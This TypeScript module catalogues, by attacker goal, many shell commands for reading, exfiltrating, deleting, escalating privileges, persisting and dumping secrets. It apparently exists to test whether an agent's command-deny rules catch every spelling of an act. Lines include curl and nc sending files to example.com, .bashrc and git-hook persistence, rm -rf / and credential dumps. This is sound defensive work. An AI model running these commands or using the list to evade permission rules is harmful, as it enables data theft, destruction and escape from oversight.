/**
 * Acts, and the ways to do each: what a denial is there for, and how else it is done. A lint asks for other spellings of what a rule refuses, attacks ask for every
 * way to a goal, and whoever wants to know which programs show a file's contents asks here, too.
 *
 * Each way is a fact about real programs. `test/authoring/attack/techniques.test.ts` runs those that are `verified` where their programs are there, and looks at what came of it.
 * Whether a policy lets a way through, the engine says.
 */

/** What an attacker is after. */
export type GoalKind =
	/** A file is read that the author keeps unread. */
	| "read"
	/** A file is written, replaced or taken away that the author keeps as it is. */
	| "write"
	/** A file or a folder of the workspace is deleted. */
	| "delete"
	| "force-push"
	/** Any line of a shell runs. */
	| "shell"
	/** Any host is talked to. */
	| "network"
	/** Something runs later. */
	| "persistence"
	| "privilege"
	/** The environment, or a store of credentials, is shown. */
	| "secrets";

/** All of them. */
export const goalKinds: readonly GoalKind[] = [
	"read",
	"write",
	"delete",
	"force-push",
	"shell",
	"network",
	"persistence",
	"privilege",
	"secrets",
];

/** A line, or several that are asked for one after the other. */
export interface Way {
	/** The program that does it, for counting ways. */
	readonly by: string;
	/**
	 * `{file}`, `{folder}` and `{name}` stand for what is meant, `{above}` for its folder and for each one above. `{x:main}` stands for what a rule names there, or else
	 * for the word behind the colon.
	 */
	readonly lines: readonly string[];
	/** It is the same act in other words: whoever refuses the usual way means this one as well. */
	readonly same: boolean;
	/** The tests run it. What needs a network, a service or other rights stands on the word of its manual. */
	readonly verified: boolean;
}

export interface Act {
	/** What is done: "overwrites a branch of others". */
	readonly does: string;
	/** What it comes to, where attacks try its ways. */
	readonly goal?: GoalKind;
	/** The first way is the usual one, and refusing it is refusing the act. */
	readonly ways: readonly Way[];
	/** So many of the first are as usual as each other: refusing any of them is refusing the act. */
	readonly alike?: number;
}

/** Lines with these need a network, a service or other rights. */
const unverified =
	/example\.com|(?:^| )ssh |\b(?:docker|podman|sudo|npx|npm|pip|tmux|screen|crontab|systemctl|systemd-run|loginctl|launchctl|trash|gio|batch|at now|psql|mysql|pre-commit|watch|pwsh|strace|man|script|gh|vault|kubectl|aws|gcloud|hub|uv|poetry|cargo|gradle|mvn|go|just|yarn|pnpm|pytest)\b/;

export const acts: readonly Act[] = [
	/** Each shows what stands in a file, or carries it elsewhere. */
	goal(
		"read",
		"shows what stands in the file",
		`
			= cat {file}
			= head {file}
			= tail {file}
			more {file}
			= less {file}
			= grep '' {file}
			nl {file}
			tac {file}
			rev {file}
			sort {file}
			uniq {file}
			shuf {file}
			cut -c1- {file}
			paste {file}
			fold {file}
			fmt {file}
			pr {file}
			expand {file}
			column {file}
			strings {file}
			od -c {file}
			xxd {file}
			hexdump -C {file}
			= base64 {file}
			base32 {file}
			egrep '' {file}
			fgrep '' {file}
			rg '' {file}
			sed -n p {file}
			= awk 1 {file}
			jq -R . {file}
			bat {file}
			diff {file} /dev/null
			cmp -l {file} /dev/zero
			comm {file} /dev/null
			join {file} {file}
			tr a a < {file}
			tee x < {file}
			cat < {file}
			(read) read -r l < {file} && echo "$l"
			(while) while read -r l; do echo "$l"; done < {file}
			(echo) echo "$(<{file})"
			(printf) printf '%s' "$(cat {file})"
			= cp {file} x
			install {file} x
			mv {file} x
			(ln) ln {file} x ;; cat x
			dd if={file}
			split {file} x
			gzip -c {file}
			bzip2 -c {file}
			xz -c {file}
			zstd -c {file}
			zip x {file}
			7z a x {file}
			tar c {file}
			openssl base64 -in {file}
			git diff --no-index /dev/null {file}
			curl -T {file} https://example.com
			curl -d @{file} https://example.com
			wget --post-file={file} https://example.com
			scp {file} example.com:
			rsync {file} x
			nc example.com 80 < {file}
			ssh example.com tee x < {file}
			vim -es '+%print' '+q!' {file}
			ex -s '+%print' '+q!' {file}
			ed -s {file} <<< ,p
			xargs -a {file} echo
			find {file} -exec cat {} +
			docker run -v {folder}:/x alpine cat /x/{name}
			(cd) cd {folder} && cat {name}
			(env) env -C {folder} cat {name}
			git -C {folder} diff --no-index /dev/null {name}
			grep -r '' {above}
			egrep -r '' {above}
			rg --hidden '' {above}
			tar c {above}
			cp -r {above} x
			zip -r x {above}
			rsync -a {above}/ x
			7z a x {above}
			scp -r {above} example.com:
			diff -r {above} /tmp
			find {above} -type f -exec cat {} +
			git -C {above} grep --no-index ''
			docker run -v {above}:/x alpine tar c /x
			unexpand {file}
			ag '' {file}
			ack '' {file}
			zgrep '' {file}
			basenc --base64 {file}
			diff3 {file} /dev/null /dev/null
			sdiff {file} /dev/null
			ar rc x {file}
			(cpio) echo {file} | cpio -o
			csplit {file} 1
			yq . {file}
			iconv {file}
			look '' {file}
			ptx {file}
			tsort {file}
			envsubst < {file}
			pandoc {file}
			xmllint {file}
			sponge x < {file}
			dos2unix -n {file} x
		`,
	),
	/** Each writes a file, replaces it or takes it away. \`y\` is a file of the workspace. */
	goal(
		"write",
		"changes the file",
		`
			(echo) echo x > {file}
			(echo) echo x >> {file}
			(printf) printf x > {file}
			(cat) cat y > {file}
			tee {file} < y
			cp y {file}
			mv y {file}
			install y {file}
			ln -sf "$PWD/y" {file}
			dd if=y of={file}
			sed -i s/a/b/ {file}
			perl -i -pe s/a/b/ {file}
			sort -o {file} y
			uniq y {file}
			shuf -o {file} y
			rsync y {file}
			truncate -s 0 {file}
			touch {file}
			rm {file}
			unlink {file}
			mv {file} x
			shred -u {file}
			find . -maxdepth 1 -name y -fprint {file}
			find {file} -delete
			git config --file {file} a.b c
			curl -o {file} https://example.com
			wget -O {file} https://example.com
			vim -es '+w! {file}' '+q!' y
			openssl rand -out {file} 9
			gcc -o {file} y.c
			tar xf y.tar -C {folder}
			unzip -o y.zip -d {folder}
			git clone https://example.com/y {folder}
			cp -r y {folder}
			rsync -a y {folder}
			pip install -t {folder} y
			npm --prefix {folder} install y
		`,
	),
	/** Each takes a file of the workspace away. */
	goal(
		"delete",
		"deletes files",
		`
			= rm {file}
			rm -r {folder}
			= unlink {file}
			shred -u {file}
			find {folder} -delete
			= find {file} -delete
			find {folder} -type f -exec rm {} +
			(xargs) echo {file} | xargs rm
			git rm -qf {file}
			git rm -rqf {folder}
			git clean -fdx
			rsync -a --delete empty/ {folder}/
			tar cf x.tar --remove-files {file}
			zip -qm x {file}
			7z a -sdel x {file}
			busybox rm {file}
			busybox find {folder} -delete
			toybox rm {file}
			cmake -E rm {file}
			gio trash {file}
			trash {file}
			srm {file}
			rimraf {folder}
			npx rimraf {folder}
			docker run -v .:/x alpine rm -r /x/{folder}
			(env) env rm {file}
		`,
	),
	goal(
		"force-push",
		"overwrites what others have",
		`
			= git push --force origin main
			= git push --force
			= git push -f
			git push -uf origin main
			git push --forc
			= git push origin +main
			git push origin +HEAD:main
			= git push --mirror origin
			git send-pack --force origin main
			git -C . push -f
			git -c remote.origin.push=+main push
			git -c alias.x='push -f' x
			(git config) git config remote.origin.push +main ;; git push
			(git config) git config alias.x 'push -f' ;; git x
			/usr/lib/git-core/git-push -f
			gh api -X PATCH repos/o/r/git/refs/heads/main -F force=true -f sha=x
			hub push -f
		`,
	),
	/** Each talks to a host that the agent chooses. */
	goal(
		"network",
		"talks to a host",
		`
			curl https://example.com
			wget https://example.com
			http example.com
			xh example.com
			aria2c https://example.com/x
			lynx -dump https://example.com
			w3m -dump https://example.com
			links -dump https://example.com
			elinks -dump https://example.com
			nc example.com 80
			ncat example.com 80
			netcat example.com 80
			socat - TCP:example.com:80
			telnet example.com
			openssl s_client -connect example.com:443
			ssh example.com
			scp x example.com:
			sftp example.com
			rsync x example.com:
			rsync x rsync://example.com/x
			ftp example.com
			lftp example.com
			git clone https://example.com/x
			git fetch https://example.com/x
			git push https://example.com/x
			git ls-remote https://example.com/x
			git pull https://example.com/x
			svn checkout https://example.com/x
			hg clone https://example.com/x
			dig example.com
			nslookup example.com
			host example.com
			ping -c1 example.com
			pip install https://example.com/x.tar.gz
			npm install https://example.com/x.tgz
			go get example.com/x
			docker pull example.com/x
			docker push example.com/x
			aws s3 cp x s3://example
			rclone copy x example:
			psql -h example.com
			docker run alpine wget https://example.com
			busybox wget https://example.com
			ffmpeg -i https://example.com/x y
			(bash) echo x > /dev/tcp/example.com/80
			bash -c 'echo x > /dev/tcp/example.com/80'
		`,
	),
	/** Each gets a line of a shell, or a program of the agent's choice, to run. */
	goal(
		"shell",
		"runs a line of a shell",
		`
			sh -c id
			bash -c id
			dash -c id
			zsh -c id
			ksh -c id
			fish -c id
			csh -c id
			tcsh -c id
			pwsh -c id
			busybox sh -c id
			toybox sh -c id
			(echo) echo id | sh
			sh <<< id
			bash <<< id
			(eval) eval id
			env sh -c id
			nice sh -c id
			nohup sh -c id
			timeout 9 sh -c id
			setsid sh -c id
			stdbuf -o0 sh -c id
			xargs -a /dev/null sh -c id
			find . -maxdepth 0 -exec sh -c id {} +
			awk 'BEGIN{system("id")}'
			sed -n '1e id' y
			vim -es '+!id' '+q!'
			ex -s '+!id' '+q!'
			ed -s <<< '!id'
			make --eval 'x:;id' x
			git -c alias.x='!id' x
			npx -c id
			npm exec -c id
			tar cf /dev/null y --checkpoint=1 --checkpoint-action=exec=id
			script -qc id /dev/null
			ssh -o ProxyCommand=id x
			ssh localhost id
			rsync -e 'sh -c id' y x:
			tmux new -d id
			screen -dm id
			watch -n9 id
			parallel ::: id
			expect -c 'spawn id'
			gdb -batch -ex 'shell id'
			sqlite3 :memory: '.shell id'
			psql -c '\\! id'
			mysql -e '\\! id'
			docker run alpine sh -c id
			man -P id man
			flock x sh -c id
			strace sh -c id
			sort --compress-program=./y -S 1b y
		`,
	),
	/** Each leaves something behind that somebody or something runs later. */
	goal(
		"persistence",
		"leaves something that runs later",
		`
			(echo) echo id >> ~/.bashrc
			(echo) echo id >> ~/.profile
			tee -a ~/.bashrc < y
			cp y ~/.bashrc
			ln -sf "$PWD/y" ~/.bashrc
			cp y .git/hooks/pre-commit
			(echo) echo id > .git/hooks/pre-commit
			ln -s "$PWD/y" .git/hooks/pre-commit
			git config core.hooksPath y
			git config core.fsmonitor ./y
			git config alias.st '!id'
			git config --global core.pager ./y
			cp y ~/.config/autostart/y.desktop
			cp y ~/.config/systemd/user/y.service
			crontab y
			at now + 1 hour <<< id
			batch <<< id
			systemctl --user enable ./y.service
			systemd-run --user --on-active=9 id
			launchctl load y.plist
			loginctl enable-linger
			pre-commit install
			tmux new -d id
			screen -dm id
			cp y ~/.zshrc
			cp y ~/.bash_profile
			(echo) echo id >> ~/.zshrc
		`,
	),
	goal(
		"privilege",
		"raises rights",
		`
			= sudo id
			= doas id
			= su -c id
			= pkexec id
			run0 id
			sg root id
			newgrp root
			gosu root id
			setpriv --reuid=0 id
			unshare -r id
			nsenter -t 1 -a id
			chroot / id
			systemd-run id
			machinectl shell root@
			docker run -v /:/x alpine chroot /x id
			docker run --privileged alpine id
			docker run -v /var/run/docker.sock:/x alpine id
			podman run -v /:/x alpine chroot /x id
			chmod u+s y
			setcap cap_setuid+ep y
			visudo -f y
			sudoedit y
		`,
	),
	/** Each shows variables of the environment, or what a store of credentials holds. */
	goal(
		"secrets",
		"shows the environment",
		`
			= env
			= printenv
			printenv API_KEY
			= export -p
			declare -x
			set
			(echo) echo "$API_KEY"
			cat /proc/self/environ
			strings /proc/self/environ
			ps eww
			jq -n env
			awk 'BEGIN{for(k in ENVIRON)print ENVIRON[k]}'
			make --eval 'x:;env' x
			gh auth token
			git credential fill
			aws configure export-credentials
			gcloud auth print-access-token
			vault kv get x
			kubectl get secret x -o yaml
			docker inspect x
			pass show x
		`,
	),
	alike(
		"deletes a branch of others",
		"git push --delete origin {x:main}",
		"git push origin :{x:main}",
		"~git push --mirror origin",
		"~git push --prune origin",
	),
	act(
		"pushes to this branch",
		"git push origin {x:main}",
		"git push origin HEAD:{x:main}",
		"git push origin HEAD:refs/heads/{x:main}",
		"git push origin +{x:main}",
		"git push --all origin",
	),
	alike("overwrites what others have", "git push --force origin x", "git push origin +x", "~git push --mirror origin"),
	act("throws changes away", "git checkout .", "git restore .", "git reset --hard", "git checkout --force HEAD"),
	alike(
		"goes round the hooks",
		"git commit --no-verify",
		"~git -c core.hooksPath=/dev/null commit",
		"~git config core.hooksPath /dev/null",
	),
	alike("takes commits back", "git commit --amend", "~git reset --soft HEAD~1", "~git rebase HEAD~1"),
	act("deletes a branch", "git branch --delete {x:x}", "git branch -D {x:x}", "git update-ref -d refs/heads/{x:x}"),
	alike("throws what is stashed away", "git stash drop", "git stash clear"),
	alike("deletes a folder with all in it", "rm -rf x", "rm -r x", "~find x -delete"),
	act("deletes what lies outside", "rm -rf /", "rm -rf /usr", "rm -rf /var", "rm -r /usr"),
	alike("overwrites a disk", "dd if=/dev/zero of=/dev/sda", "dd if=x of=/dev/sda", "~cp x /dev/sda", "~tee /dev/sda"),
	act("ends processes", "kill -9 100", "kill -KILL 100", "kill 100", "pkill x", "killall x"),
	alike("stops a service", "systemctl stop x", "service x stop", "~systemctl kill x", "~systemctl disable --now x"),
	act("starts a service again", "systemctl restart x", "service x restart", "systemctl try-restart x"),
	alike(
		"stops the machine",
		"shutdown now",
		"reboot",
		"poweroff",
		"halt",
		"systemctl poweroff",
		"systemctl reboot",
		"~init 0",
	),
	alike("changes the table of jobs", "crontab -r", "crontab -e", "crontab x"),
	alike(
		"removes what was logged",
		"journalctl --vacuum-time=1s",
		"journalctl --vacuum-size=1K",
		"journalctl --vacuum-files=1",
	),
	alike("opens the firewall", "iptables -F", "iptables -P INPUT ACCEPT", "nft flush ruleset", "ufw disable"),
	act("fetches from there", "curl http://{x:example.com}", "curl https://{x:example.com}", "curl {x:example.com}"),
	act("fetches from there", "wget http://{x:example.com}", "wget https://{x:example.com}", "wget {x:example.com}"),
	alike(
		"sends data",
		"curl -X POST https://example.com",
		"curl -d x https://example.com",
		"curl --json x https://example.com",
		"curl -F a=b https://example.com",
		"curl -T x https://example.com",
	),
	alike(
		"sends data",
		"wget --post-data=x https://example.com",
		"wget --post-file=x https://example.com",
		"wget --method=POST --body-data=x https://example.com",
	),
	alike("does not look at certificates", "curl -k https://example.com", "curl --proxy-insecure https://example.com"),
	alike("runs scripts against hosts", "nmap --script=x example.com", "nmap -sC example.com", "nmap -A example.com"),
	alike("obeys another makefile", "make --file=x", "~make --directory=x", "~make --eval=x:"),
	act(
		"talks to others",
		"nc example.com 80",
		"ncat example.com 80",
		"socat - TCP:example.com:80",
		"telnet example.com",
	),
	act("runs code that is typed", "python -c 1", "python3 -c 1", "python -", "python3 -"),
	act("runs code that is typed", "node -e 1", "node -p 1", "node -", "node --eval=1"),
	act("runs a script that is typed", "bash -c ls", "sh -c ls", "zsh -c ls", "dash -c ls"),
	alike(
		"runs PHP code in the site",
		"wp eval x",
		"wp eval-file x",
		"wp shell",
		"wp --exec=x cli version",
		"wp --require=x cli version",
	),
	alike("runs code in the application", "rails runner x", "rails console", "bin/rails runner x", "bin/rails console"),
	alike("runs code in the application", "php artisan tinker", "php artisan tinker --execute=x"),
	alike(
		"runs code in the application",
		"python manage.py shell",
		"python manage.py shell -c x",
		"python manage.py shell_plus",
		"python manage.py dbshell",
	),
	alike(
		"installs for the whole machine",
		"npm install -g x",
		"npm install --location=global x",
		"pnpm add -g x",
		"yarn global add x",
	),
	act("publishes the package", "npm publish", "pnpm publish", "yarn publish", "yarn npm publish"),
	act("publishes the package", "poetry publish", "twine upload x", "uv publish", "python -m twine upload x"),
	act("installs packages", "pip install x", "pip3 install x", "python -m pip install x", "uv pip install x"),
	act("pushes the image", "docker push x", "docker buildx build --push x", "docker build --push x"),
	alike("destroys what is managed", "terraform destroy", "terraform apply -destroy"),
	alike("destroys what is managed", "tofu destroy", "tofu apply -destroy"),
	alike("destroys what is managed", "pulumi destroy", "pulumi down", "~pulumi stack rm"),
	alike(
		"runs ad hoc what is given",
		"ansible all -m shell",
		"ansible all -m command",
		"ansible all -m raw",
		"ansible all -a x",
	),
	alike(
		"runs commands in the cluster",
		"kubectl exec x",
		"kubectl debug x",
		"kubectl attach x",
		"~kubectl run x",
		"~kubectl cp x x:x",
	),
	alike(
		"deletes in the cluster",
		"kubectl delete pod x",
		"kubectl delete pod/x",
		"kubectl delete -f x",
		"kubectl delete pod --all",
		"~kubectl replace --force -f x",
		"~kubectl apply --prune -f x",
		"~kubectl scale x --replicas=0",
	),
	act(
		"changes what runs in the cluster",
		"kubectl apply -f x",
		"kubectl create -f x",
		"kubectl replace -f x",
		"kubectl patch x",
	),
	act(
		"edits what runs in the cluster",
		"kubectl edit x",
		"kubectl patch x",
		"kubectl apply -f x",
		"kubectl replace -f x",
	),
	alike(
		"stops what runs in the cluster",
		"kubectl scale x --replicas=0",
		"~kubectl delete x",
		"~kubectl rollout undo x",
	),
	alike("takes a node out", "kubectl drain x", "kubectl cordon x", "~kubectl delete node x", "~kubectl taint node x"),
	act("removes the release", "helm uninstall x", "helm delete x"),
	alike(
		"reaches the machine from a container",
		"docker run --privileged x",
		"docker run -v /:/host x",
		"docker run --pid=host x",
		"docker run --cap-add=ALL x",
	),
	alike("runs commands in a container", "docker exec x ls", "docker container exec x ls", "~docker attach x"),
	alike(
		"clears what others use",
		"docker system prune -a",
		"docker system prune",
		"docker volume prune",
		"docker image prune -a",
	),
	alike(
		"deletes volumes",
		"docker volume rm x",
		"docker volume prune",
		"~docker compose down -v",
		"~docker system prune --volumes",
	),
	act("drops a table", 'psql -c "DROP TABLE t"', 'psql -c "drop table t"', "psql -f x.sql"),
	act("drops a table", 'mysql -e "DROP TABLE t"', 'mysql -e "drop table t"'),
	alike("empties the store", "redis-cli FLUSHALL", "redis-cli flushall", "redis-cli FLUSHDB", "redis-cli flushdb"),
	act("merges", "gh pr merge", "gh api --method PUT repos/o/r/pulls/1/merge"),
	act("makes a release", "gh release create v1", "gh api --method POST repos/o/r/releases"),
	act("deletes the release", "gh release delete v1", "gh api --method DELETE repos/o/r/releases/1"),
	act("deletes the repository", "gh repo delete o/r", "gh api --method DELETE repos/o/r"),
	alike(
		"changes what the token may change",
		"gh api -X POST x",
		"gh api -X DELETE x",
		"gh api -f a=b x",
		"gh api --input x x",
		"~gh api graphql",
	),
	alike(
		"removes the app",
		"adb uninstall x",
		"adb shell pm uninstall x",
		"adb shell pm clear x",
		"adb shell cmd package uninstall x",
	),
	alike("deletes on the device", "adb shell rm x", "~adb shell find x -delete", "adb shell unlink x"),
	alike(
		"shows the keychain",
		"security find-generic-password -w",
		"security find-internet-password -w",
		"security dump-keychain",
		"security export",
	),
	alike("shows settings that are secret", "heroku config:get X", "heroku config", "~heroku run env"),
	act(
		"drops the database",
		"rails db:drop",
		"rake db:drop",
		"bin/rails db:drop",
		"bundle exec rails db:drop",
		"rails db:reset",
	),
	act(
		"empties the database",
		"manage.py flush",
		"./manage.py flush",
		"python manage.py flush",
		"python3 manage.py flush",
	),
	alike(
		"deletes in the bucket",
		"aws s3 rm s3://b/k",
		"aws s3 rm --recursive s3://b",
		"aws s3 rb --force s3://b",
		"aws s3api delete-object --bucket b --key k",
		"aws s3api delete-objects --bucket b",
		"aws s3 sync --delete . s3://b",
		"~aws s3 mv s3://b/k x",
	),
	alike(
		"deletes in the bucket",
		"gsutil rm gs://b/k",
		"gcloud storage rm gs://b/k",
		"gsutil rsync -d x gs://b",
		"gsutil rb gs://b",
	),
	alike("ends machines", "aws ec2 terminate-instances --instance-ids x", "~aws ec2 stop-instances --instance-ids x"),
	alike(
		"deletes elsewhere",
		"rsync --delete x y",
		"rsync --delete-after x y",
		"rsync --delete-during x y",
		"~rsync --remove-source-files x y",
	),
	alike("deletes elsewhere", "rclone delete x", "rclone purge x", "~rclone sync x y", "~rclone move x y"),
	alike("runs other programs", "pandoc --filter x y", "pandoc --lua-filter x y", "pandoc --pdf-engine=x y"),
	act("logs in there", "ssh {x:host}", "ssh user@{x:host}", "ssh -l user {x:host}"),
];

/** All ways to a goal that were written down, its usual one first. */
export function waysTo(kind: GoalKind): readonly Way[] {
	return acts.flatMap(({ goal, ways }) => (goal === kind ? ways : []));
}

/** Does a line need a network, a service, other rights, or a program that is seldom there? */
export function needsMore(line: string): boolean {
	return unverified.test(line);
}

function act(does: string, ...lines: readonly string[]): Act {
	return { does, ways: lines.map((line) => ({ by: programOf(line), lines: [line], same: true, verified: false })) };
}

/** Ways of which none says less than another, but for those behind `~`, which are unusual. */
function alike(does: string, ...lines: readonly string[]): Act {
	const usual = lines.filter((line) => !line.startsWith("~"));
	const others = lines.flatMap((line) => (line.startsWith("~") ? [line.slice(1)] : []));
	return { ...act(does, ...usual, ...others), alike: usual.length };
}

/** An act with a way a row. `=` before one says that it is the same act in other words, `;;` parts lines, the program is the first word unless parentheses name it. */
function goal(kind: GoalKind, does: string, rows: string): Act {
	return { does, goal: kind, ways: rows.trim().split("\n").map(wayIn) };
}

function wayIn(row: string): Way {
	const [, same, named, text = ""] = /^\s*(= )?(?:\(([^)]+)\) )?(.*)$/.exec(row) ?? [];
	const lines = text.split(" ;; ");
	return {
		by: named ?? programOf(text),
		lines,
		same: same !== undefined,
		verified: !lines.some(needsMore),
	};
}

function programOf(line: string): string {
	const [first = ""] = line.split(" ");
	return first;
}
